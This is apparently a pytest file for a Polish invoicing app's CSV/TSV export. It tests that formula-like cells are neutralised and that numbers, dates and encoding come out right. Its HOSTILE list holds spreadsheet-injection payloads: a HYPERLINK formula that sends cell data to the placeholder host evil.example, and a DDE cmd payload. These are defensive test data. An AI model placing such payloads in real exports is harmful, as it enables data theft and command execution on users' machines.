"""CSV and TSV exports that a spreadsheet opens safely (widgets/export.py, issue #11)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from rich.text import Text

from ibok_tui.i18n import set_language
from ibok_tui.widgets.export import (
    day_cell,
    money_cell,
    neutralised,
    tsv_text,
    write_csv_file,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\xa0=1+1",
    "＝1+1",  # full-width equals sign
]


@pytest.fixture(autouse=True)
def polish() -> object:
    set_language("pl")
    yield
    set_language("pl")


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_is_neutralised(cell: str) -> None:
    assert neutralised(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Jan Kowalski", "FV/100001/036", "", " a=b", "ul. Leśna 5", "1-2"]
)
def test_plain_text_is_left_alone(cell: str) -> None:
    assert neutralised(cell) == cell


def read_back(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_a_polish_csv_with_hostile_cells_numbers_and_dates(tmp_path: Path) -> None:
    headers = ["Numer", "Do zapłaty", "Termin"]
    rows: list[list[object]] = [
        [cell, money_cell(-1250), day_cell(date(2026, 11, 20))] for cell in HOSTILE
    ]
    rows.append([Text("@Rich"), money_cell(0), "2026-01-01"])
    rows.append(
        [Text('wiersz\nz\tnowym;wierszem"i cudzysłowem'), money_cell(123456), day_cell(None)]
    )
    path = tmp_path / "out.csv"
    write_csv_file(path, headers, rows)
    read = read_back(path, ";")
    assert read[0] == ["Numer", "Do zapłaty [zł]", "Termin"]
    for cell, row in zip(HOSTILE, read[1:], strict=False):
        assert row == ["'" + cell, "-12,50", "2026-11-20"]  # a negative amount stays a number
    assert read[-2] == ["'@Rich", "0,00", "2026-01-01"]
    assert read[-1] == ['wiersz\nz\tnowym;wierszem"i cudzysłowem', "1234,56", ""]
    assert len(read) == len(rows) + 1
    assert "zł" not in path.read_bytes().decode("utf-8-sig").split("\r\n", 1)[1]


def test_an_english_csv_uses_commas_and_a_decimal_point(tmp_path: Path) -> None:
    set_language("en")
    path = tmp_path / "out.csv"
    write_csv_file(
        path, ["Number", "To pay"], [[Text("@x"), money_cell(-5)], ["a,b", money_cell(100000)]]
    )
    assert read_back(path, ",") == [
        ["Number", "To pay [PLN]"],
        ["'@x", "-0.05"],
        ["a,b", "1000.00"],
    ]


def test_the_tsv_copy_keeps_tabs_and_newlines_inside_a_cell() -> None:
    text = tsv_text(
        ["Numer", "Opis", "Kwota"],
        [[Text("A\tB"), "linia 1\nlinia 2", money_cell(1999)], [Text("=1+1"), "", money_cell(0)]],
    )
    read = list(csv.reader(io.StringIO(text), dialect="excel-tab"))
    assert read == [
        ["Numer", "Opis", "Kwota [zł]"],
        ["A\tB", "linia 1\nlinia 2", "19,99"],
        ["'=1+1", "", "0,00"],
    ]
